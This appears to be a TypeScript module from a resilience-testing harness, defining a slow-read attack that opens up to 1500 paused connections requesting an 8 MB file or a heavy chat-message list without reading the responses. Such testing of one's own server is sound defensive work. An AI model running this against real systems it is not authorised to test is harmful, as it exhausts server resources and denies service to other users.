import { setTimeout as delay } from 'node:timers/promises';
import type { Attack } from './attack.ts';
import { putOwnFile } from './own-file.ts';

const maxHeld = 1500;

export const unreadAnswers: Attack = {
  name: 'answers unread',
  does: '1500 connections that ask for an 8 MB file of their own, or for a heavy list, and do not read',
  async run(target) {
    const { elsewhere, scene, time, note } = target;
    const list = `/api/chat/rooms/${scene.privateRoomId}/messages?limit=100`;
    const file = (await putOwnFile(target)) ?? list;
    let held = 0;
    // One after the other: it is about what lies unread, not about a crowd at the door.
    while (!time.aborted && held < maxHeld) {
      held += 1;
      const socket = await elsewhere.dial();
      socket.pause();
      socket.once('close', () => !time.aborted && note('ended by the server'));
      socket.write(elsewhere.head('GET', held % 2 ? file : list));
      await delay(5);
    }
    note('held', held);
    if (!time.aborted) await new Promise((resolve) => time.addEventListener('abort', resolve));
  },
};
